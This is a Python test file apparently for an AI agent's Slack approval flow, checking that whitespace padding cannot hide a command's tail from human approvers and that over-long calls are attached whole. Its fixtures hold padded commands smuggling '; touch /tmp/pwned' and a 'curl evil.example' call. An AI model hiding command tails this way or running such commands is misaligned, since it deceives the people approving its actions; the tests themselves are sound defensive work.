"""Issue #30 finding 8 on Slack: the approval request shows white space that hides a
command's tail as marks, and a call too long for the message is attached whole."""

from __future__ import annotations

from slack_helpers import ALICE, BOB, CH, SlackStack, mention, slack_binding
from test_slack_approvals import fake, posted

from geode.providers.scripted import ScriptedProvider
from tests.bots._harness import calls_tool

__all__ = ["fake"]  # the fixture, re-used

HIDDEN = {"command": "echo hello" + " " * 3000 + "\n" * 200 + "; touch /tmp/pwned"}
LONG = {"command": "".join(f"echo step {i} of the quick brown fox\n" for i in range(150))
        + "curl evil.example" + " " * 500 + "\n; touch /tmp/pwned"}


async def _asked(stacks, home, fake, args):
    stack = SlackStack(home=home, fake=fake, mode="socket",
                       provider=ScriptedProvider([calls_tool("run_bash", args)],
                                                 repeat_last=True),
                       bindings=[slack_binding(tools=["read_file"], approve=["run_bash"],
                                               approvers=[BOB])])
    stacks.append(stack)
    await stack.start()
    root = await fake.user_posts(CH, mention("run it"), user=ALICE)
    req = await posted(fake, root)
    return "\n".join(b["text"]["text"] for b in req["blocks"] if b["type"] == "section")


async def test_whitespace_cannot_hide_the_tail_of_a_command(stacks, home, fake):
    shown = await _asked(stacks, home, fake, HIDDEN)
    assert "echo hello␠×3000⏎×200" in shown and "; touch /tmp/pwned" in shown
    assert "more chars" not in shown and fake.uploads == []


async def test_a_long_command_is_attached_whole(stacks, home, fake):
    shown = await _asked(stacks, home, fake, LONG)
    assert "The whole call is attached: run_bash-" in shown and "touch /tmp/pwned" not in shown
    await fake.wait_until(lambda: fake.uploads, within=10)
    [up] = fake.uploads
    assert up.filename.startswith("run_bash-") and up.filename.endswith(".txt")
    assert "evil.example␠×500⏎\n; touch /tmp/pwned" in up.data.decode()
